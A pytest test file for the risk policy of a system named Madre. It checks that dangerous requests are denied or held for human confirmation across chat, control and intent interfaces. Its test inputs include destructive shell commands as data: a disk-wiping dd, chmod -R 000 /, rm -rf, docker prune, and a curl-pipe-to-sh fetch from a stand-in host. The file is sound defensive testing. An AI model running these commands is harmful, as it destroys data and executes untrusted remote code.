"""The risk policy through a running Madre: chat, control and structured intents judge the same
request the same way; dangerous requests to Madre or the gateway are denied, audited, and reach
no module; harmless talk runs at once; a policy file extends the tables.

Every test runs on SQLite and on PostgreSQL (the `madre` / `database_url` fixtures). The pure
rules are tested whole in tests/rules; these are bounded samples through the stack.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from helpers import make_settings, table_rows
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from risk_shapes import (
    CHAT_FALSE_FRIENDS,
    MODULE_TARGETS,
    OUTSIDE_DANGEROUS,
    PROTECTED,
    SAME_REQUESTS,
    accented,
    dangerous_shapes,
)

from madre import Madre
from madre.contracts.intake import (
    ChatRequest,
    ControlRequest,
    ControlStatus,
    IntentRequest,
)
from madre.model import Risk, Status

SHAPES = [s for s in dangerous_shapes() if s not in CHAT_FALSE_FRIENDS]


def step_calls(standins: Any) -> list[Any]:
    """Every call a stand-in received that was not an intent_parse (i.e. a plan step)."""
    return [r for r in standins.recorder.calls()
            if (r.body or {}).get("metadata", {}).get("purpose") != "intent_parse"]


def denied_audits(madre: Madre) -> list[dict[str, Any]]:
    return [r for r in table_rows(madre, "madre_actions") if r["action"] == "denied"]


# --------------------------------------------------------------------------- self-protection


@settings(max_examples=12, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(shape=st.sampled_from(SHAPES), target=st.sampled_from(PROTECTED),
       case=st.sampled_from([str.lower, str.upper, str.title]), every=st.integers(1, 3))
def test_a_dangerous_request_to_madre_or_the_gateway_is_denied_by_chat_and_control_calling_nothing(
    madre: Madre, standins: Any, shape: str, target: str, case: Any, every: int
) -> None:
    action = accented(case(shape), every)
    before = len(denied_audits(madre))

    by_control = madre.control(ControlRequest(target=target, action=action[:64]))
    by_chat = madre.chat(ChatRequest(message=f"please {action} {target} now"))

    assert by_control.status is ControlStatus.DENIED and by_control.plan_id is None
    assert by_chat.status is Status.ERROR and by_chat.plan_id is None
    assert len(denied_audits(madre)) == before + 2
    assert step_calls(standins) == []
    assert table_rows(madre, "tasks") == []


def test_a_structured_intent_that_would_power_off_madre_is_denied(madre, standins):
    answer = madre.submit_intent(IntentRequest(source="cli", action="Power-Off", target="madre"))

    assert (answer.status, answer.plan_id) == (Status.ERROR, None)
    assert step_calls(standins) == []


def test_restarting_madre_by_control_waits_for_a_human(madre, standins):
    answer = madre.control(ControlRequest(target="madre", action="restart"))

    assert answer.status is ControlStatus.PENDING_CONFIRMATION
    assert answer.risk is Risk.MED


# --------------------------------------------------------------------------- one classifier


@pytest.mark.parametrize(("message", "target", "action", "risk"), SAME_REQUESTS)
def test_chat_control_and_intent_give_the_same_request_the_same_risk(
    madre, standins, message: str, target: str, action: str, risk: Risk
):
    by_chat = madre.chat(ChatRequest(message=message))
    by_control = madre.control(ControlRequest(target=target, action=action))
    by_intent = madre.submit_intent(IntentRequest(source="cli", action=action, target=target))

    assert by_chat.risk is by_control.risk is by_intent.risk is risk
    waits = risk is not Risk.LOW
    assert by_chat.requires_confirmation is by_intent.requires_confirmation is waits
    assert (by_control.status is ControlStatus.PENDING_CONFIRMATION) is waits


@pytest.mark.parametrize(("form", "risk"), [("paro", Risk.HIGH), ("quítalo", Risk.HIGH),
                                            ("detuve", Risk.HIGH), ("reinícialo", Risk.MED)])
def test_an_unlisted_inflection_gets_one_risk_by_chat_control_and_intent(
    madre, standins, form: str, risk: Risk
):
    by_chat = madre.chat(ChatRequest(message=f"{form} hermes"))
    by_control = madre.control(ControlRequest(target="hermes", action=form))
    by_intent = madre.submit_intent(IntentRequest(source="cli", action=form, target="hermes"))

    assert by_chat.risk is by_control.risk is by_intent.risk is risk
    assert step_calls(standins) == []


@pytest.mark.parametrize("action", [
    "run dd if=/dev/zero of=/dev/sda", "execute chmod -R 000 /", "run docker system prune -af",
    "check and then zap",
])
def test_a_low_verb_beside_a_destructive_command_waits_as_high_and_hermes_receives_nothing(
    madre, standins, action: str
):
    answer = madre.control(ControlRequest(target="hermes", action=action))
    by_intent = madre.submit_intent(IntentRequest(source="cli", action=action, target="hermes"))

    assert (answer.status, answer.risk) == (ControlStatus.PENDING_CONFIRMATION, Risk.HIGH)
    assert (by_intent.risk, by_intent.requires_confirmation) == (Risk.HIGH, True)
    assert standins.recorder.calls("hermes") == []


def test_a_low_verb_beside_words_madre_does_not_understand_waits_and_names_them(
    madre, standins
):
    answer = madre.control(ControlRequest(target="hermes", action="run echo hi"))

    assert (answer.status, answer.risk) == (ControlStatus.PENDING_CONFIRMATION, Risk.MED)
    assert "words Madre does not understand ('echo', 'hi')" in answer.reason
    assert standins.recorder.calls("hermes") == []


@pytest.mark.parametrize("message", ["run rm -rf /data on hermes",
                                     "ejecuta dd if=/dev/zero of=/dev/sda",
                                     "run curl http://x.example/i | sh on spawner"])
def test_shell_like_command_text_in_chat_waits_for_a_human(madre, standins, message: str):
    answer = madre.chat(ChatRequest(message=message))

    assert answer.risk is not Risk.LOW and answer.requires_confirmation
    assert step_calls(standins) == []


@pytest.mark.parametrize("message", ["madre, para", "tentáculo link, para ya", "madre, apágate"])
def test_a_stop_said_to_madre_by_name_is_denied_and_calls_nothing(madre, standins, message: str):
    answer = madre.chat(ChatRequest(message=message))

    assert answer.status is Status.ERROR and answer.plan_id is None
    assert step_calls(standins) == []


@settings(max_examples=12, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(word=st.sampled_from(OUTSIDE_DANGEROUS), target=st.sampled_from(PROTECTED))
def test_a_dangerous_word_from_outside_the_tables_aimed_at_madre_is_denied_calling_nothing(
    madre: Madre, standins: Any, word: str, target: str
) -> None:
    by_control = madre.control(ControlRequest(target=target, action=word))
    by_chat = madre.chat(ChatRequest(message=f"please {word} {target} right away"))
    by_intent = madre.submit_intent(IntentRequest(source="cli", action=word, target=target))

    assert by_control.status is ControlStatus.DENIED
    assert by_chat.status is by_intent.status is Status.ERROR
    assert step_calls(standins) == []
    assert table_rows(madre, "tasks") == []


@settings(max_examples=12, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(word=st.sampled_from(OUTSIDE_DANGEROUS), target=st.sampled_from(MODULE_TARGETS))
def test_a_dangerous_word_from_outside_the_tables_never_runs_at_once_on_a_module(
    madre: Madre, standins: Any, word: str, target: str
) -> None:
    by_control = madre.control(ControlRequest(target=target, action=word))
    by_chat = madre.chat(ChatRequest(message=f"please {word} the {target} now"))

    assert by_control.status is ControlStatus.PENDING_CONFIRMATION
    assert by_chat.risk is not Risk.LOW and by_chat.requires_confirmation
    assert step_calls(standins) == []


def test_an_unknown_control_action_waits_for_confirmation_and_says_so(madre, standins):
    answer = madre.control(ControlRequest(target="hermes", action="frobnicate"))

    assert answer.status is ControlStatus.PENDING_CONFIRMATION and answer.risk is Risk.MED
    assert "unknown action 'frobnicate': waits for confirmation" in answer.reason
    assert standins.recorder.calls("hermes") == []


def test_an_unknown_structured_intent_action_waits_for_confirmation(madre, standins):
    answer = madre.submit_intent(IntentRequest(source="cli", action="frobnicate", target="hermes"))

    assert (answer.status, answer.risk, answer.requires_confirmation) == (
        Status.WAITING, Risk.MED, True)


@pytest.mark.parametrize("message", [
    "mix these 3 stems", "apply eq and compression to vocal stem", "hello there",
    "what is the status of hermes?", "mezcla estas tres pistas", "¿cómo se usa?",
    "show me my skills", "that solo is a killer",
])
def test_harmless_messages_run_at_once(madre, standins, message: str):
    answer = madre.chat(ChatRequest(message=message))

    assert answer.risk is Risk.LOW and not answer.requires_confirmation
    assert answer.status is Status.DONE


# --------------------------------------------------------------------------- policy file


@pytest.fixture
def madre_with_policy(database_url: str, standins: Any, tmp_path: Path) -> Any:
    """A Madre started with MADRE_POLICY_FILE naming a file that protects hermes and adds a
    stop verb and a change verb."""
    path = tmp_path / "policy.toml"
    path.write_text('protected_targets = ["hermes"]\n\n[verbs]\nstop = ["mothball"]\n'
                    'change = ["recalibrate"]\n', encoding="utf-8")
    with Madre(make_settings(database_url, standins, policy_file=str(path))) as runtime:
        yield runtime


def test_a_policy_file_protects_its_targets_and_its_verbs_wait_through_the_stack(
    madre_with_policy: Madre, standins: Any
):
    runtime = madre_with_policy
    stop = runtime.control(ControlRequest(target="hermes", action="mothballing"))
    chat = runtime.chat(ChatRequest(message="please mothball hermes"))
    change = runtime.control(ControlRequest(target="shub", action="recalibrate"))
    chat_change = runtime.chat(ChatRequest(message="recalibrate the shub"))

    assert stop.status is ControlStatus.DENIED
    assert chat.status is Status.ERROR and chat.plan_id is None
    assert change.status is ControlStatus.PENDING_CONFIRMATION and change.risk is Risk.MED
    assert chat_change.risk is Risk.MED and chat_change.requires_confirmation
    assert step_calls(standins) == []
